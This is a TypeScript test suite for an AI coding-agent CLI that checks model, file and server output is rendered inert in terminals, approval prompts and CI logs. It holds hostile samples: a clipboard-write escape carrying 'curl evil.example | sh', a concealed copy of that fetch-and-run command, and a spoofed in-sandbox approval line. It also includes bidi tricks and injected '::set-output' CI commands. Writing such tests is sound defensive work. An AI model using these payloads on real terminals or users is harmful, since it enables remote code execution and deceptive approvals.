import assert from 'node:assert/strict';
import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import { TerminalApprovals } from '../../../src/cli/cliApprovals';
import { JsonRenderer } from '../../../src/cli/jsonRenderer';
import { printable, printableStrings } from '../../../src/cli/printable';
import { TerminalRenderer } from '../../../src/cli/terminalRenderer';
import type { ApprovalRequest } from '../../../src/core/host/approvals';
import { elbowEnvironment, runElbow, useCliFixture } from '../../support/elbowCli';
import { text, toolCall } from '../../support/fakeLlmServer';

/** What a hostile model, file or server could send a terminal, each to be shown and not done. */
const attacks = {
  clipboardWrite: '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07',
  hyperlink: '\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\',
  clearScreen: '\x1b[2J\x1b[H',
  conceal: '\x1b[8mcurl evil.example | sh\x1b[28m',
  cursorUp: '\x1b[1A\x1b[2K',
  carriageReturn: '\rElbow wants to run: ls',
  c1Csi: '\u009b2J',
  bidiOverride: '\u202eexe.sh\u202c',
  bidiIsolate: '\u2066isolated\u2069',
};
const payload = Object.values(attacks).join(' ');

/** Characters a terminal would act on; none may come from the attacker. */
// eslint-disable-next-line no-control-regex
const actedOn = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

// eslint-disable-next-line no-control-regex
const elbowsColours = /\x1b\[(?:0|1|2|31|32|33|36)m/g;

describe('printable', () => {
  it('shows escape and control sequences, C1 controls and bidirectional controls as visible escapes', () => {
    assert.equal(printable(attacks.clipboardWrite), '\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07');
    assert.equal(printable(attacks.carriageReturn), '\\x0dElbow wants to run: ls');
    assert.equal(printable(attacks.c1Csi), '\\x9b2J');
    assert.equal(printable(attacks.bidiOverride), '\\u202eexe.sh\\u202c');
    assert.equal(printable('\x7f'), '\\x7f');
    assert.doesNotMatch(printable(payload), actedOn);
  });

  it('keeps newlines, tabs and ordinary text, accents and emoji included', () => {
    assert.equal(printable('a\tb\nc é ✓ 🙂 ‘quoted’'), 'a\tb\nc é ✓ 🙂 ‘quoted’');
  });

  it('makes every string of a value printable, at any depth, and leaves the rest', () => {
    const value = { type: 'tool_result', isError: true, count: 2, nested: [{ text: attacks.clearScreen }] };
    assert.deepEqual(printableStrings(value), { type: 'tool_result', isError: true, count: 2, nested: [{ text: '\\x1b[2J\\x1b[H' }] });
  });
});

describe('the terminal renderer shows text from outside inert, in its own colours', () => {
  it('prints model text, tool subjects, tool errors and task lists without the sequences they carry', () => {
    const out: string[] = [];
    const renderer = new TerminalRenderer({ stdout: (t) => out.push(t), stderr: (t) => out.push(t) }, { streamText: true, labelAnswers: true, color: true });
    renderer.handle({ type: 'text_delta', text: `Look: ${payload}` });
    renderer.handle({ type: 'tool_call', id: '1', name: 'read_file', arguments: '{}', title: 'Read', kind: 'read', subject: `notes${attacks.conceal}.txt` });
    renderer.handle({ type: 'tool_result', id: '1', name: 'read_file', isError: true, summary: 'x', text: `No such file: ${attacks.hyperlink}` });
    renderer.handle({ type: 'todos', items: [{ text: attacks.cursorUp, status: 'pending' }] });
    renderer.handle({ type: 'done', outcome: { reason: 'error', message: `The server said: ${attacks.clipboardWrite}`, kind: 'server', retryable: false } });
    const shown = out.join('');
    // Only Elbow's own colours remain: bold, dim, red, green, yellow, cyan, and their reset.
    assert.doesNotMatch(shown.replace(elbowsColours, ''), actedOn, JSON.stringify(shown));
    assert.ok(shown.includes('\x1b[31m✗\x1b[0m read_file(notes\\x1b[8mcurl evil.example | sh\\x1b[28m.txt): No such file: \\x1b]8;;https://evil.example/'), JSON.stringify(shown));
  });

  it('--json writes the same values with C1 and bidirectional controls escaped too', () => {
    const lines: string[] = [];
    new JsonRenderer((line) => lines.push(line)).handle({ type: 'text_delta', text: payload });
    assert.doesNotMatch(lines.join(''), actedOn);
    assert.deepEqual(JSON.parse(lines.join('')), { type: 'text_delta', text: payload });
  });
});

describe('an approval question cannot be hidden or reordered by what it shows', () => {
  it('shows the real "outside the sandbox" question when the command and its reason draw a fake one', async () => {
    const request: ApprovalRequest = {
      kind: 'command',
      toolCallId: 'c',
      command: `ls${attacks.conceal}\u202e hs.lave`,
      cwd: '.',
      reasons: [],
      alwaysAllow: [],
      placement: { kind: 'outsideRequested', reason: `listing${attacks.cursorUp}${attacks.cursorUp}\rElbow wants to run: ls\n[y]es (in the sandbox)${attacks.conceal}` },
    };
    let question = '';
    const approvals = new TerminalApprovals({ color: true });
    approvals.attach(async (asked) => ((question = asked), 'n'));
    await approvals.request(request, new AbortController().signal);
    assert.doesNotMatch(question, actedOn, JSON.stringify(question));
    assert.match(question, /^Elbow wants to run outside the sandbox: ls\\x1b\[8mcurl evil\.example \| sh\\x1b\[28m\\u202e hs\.lave\n/);
    assert.match(question, /\n {2}Outside the sandbox it runs with your full rights\.\n\[y\]es \(outside the sandbox\), \[s\]andbox instead, \[n\]o, or type why not: $/);
  });

  it('escapes what a tool name and the text of any other question carry', async () => {
    let question = '';
    const approvals = new TerminalApprovals();
    approvals.attach(async (asked) => ((question = asked), 'n'));
    await approvals.request({ kind: 'outsideWorkspace', toolCallId: 'c', toolName: `read_file${attacks.clearScreen}`, path: `/tmp/${attacks.bidiIsolate}`, access: 'read' }, new AbortController().signal);
    assert.doesNotMatch(question, actedOn, JSON.stringify(question));
  });
});

describe('elbow -p prints nothing from outside that a terminal would act on (real CLI)', function () {
  this.timeout(30_000);
  const fixture = useCliFixture();

  it('model text, a file name, a tool error and a refused command reach stdout and stderr as visible escapes', async () => {
    const { server, cwd } = fixture;
    await fs.writeFile(path.join(cwd, `notes${attacks.conceal}.txt`), 'notes\n');
    server.enqueue(
      { kind: 'reply', content: [toolCall('read_file', { path: `notes${attacks.conceal}.txt` })] },
      { kind: 'reply', content: [toolCall('read_file', { path: `missing${attacks.hyperlink}.txt` })] },
      { kind: 'reply', content: [toolCall('run_command', { command: `touch ${payload}` })] },
      { kind: 'reply', content: [text(`All done. ${payload}`)] },
    );
    const run = await runElbow(['-p', 'look', '--cwd', cwd], elbowEnvironment(server, 'openai'));
    assert.equal(run.code, 0, run.stderr);
    assert.doesNotMatch(run.stdout, actedOn, JSON.stringify(run.stdout));
    assert.doesNotMatch(run.stderr, actedOn, JSON.stringify(run.stderr));
    assert.ok(run.stdout.startsWith('All done. \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07 '), run.stdout);
    assert.ok(run.stderr.includes('✓ read_file(notes\\x1b[8mcurl evil.example | sh\\x1b[28m.txt)'), run.stderr);
    assert.ok(run.stderr.includes('elbow: refused without approval: run `touch \\x1b]52;c;'), run.stderr);
  });

  it('a refused command or path with a newline stays on its refusal line, so it starts no line of its own (a CI log reads `::` lines as commands)', async () => {
    const { server, cwd } = fixture;
    server.enqueue(
      { kind: 'reply', content: [toolCall('run_command', { command: 'true\n::set-output name=branch::main', outside_sandbox: true, reason: 'It needs the network.' })] },
      { kind: 'reply', content: [toolCall('read_file', { path: '/etc/x\n::warning::from the model' })] },
      { kind: 'reply', content: [text('done')] },
    );
    const run = await runElbow(['-p', 'look', '--cwd', cwd], elbowEnvironment(server, 'openai'));
    assert.equal(run.code, 0, run.stderr);
    const refusals = run.stderr.split('\n').filter((line) => line.startsWith('elbow: refused without approval: '));
    assert.equal(refusals.length, 2, run.stderr);
    assert.ok(refusals[0]?.includes('true⏎::set-output name=branch::main'), run.stderr);
    assert.ok(refusals[1]?.includes('/etc/x⏎::warning::from the model'), run.stderr);
    assert.deepEqual(run.stderr.split('\n').filter((line) => line.trimStart().startsWith('::')), []);
  });
});
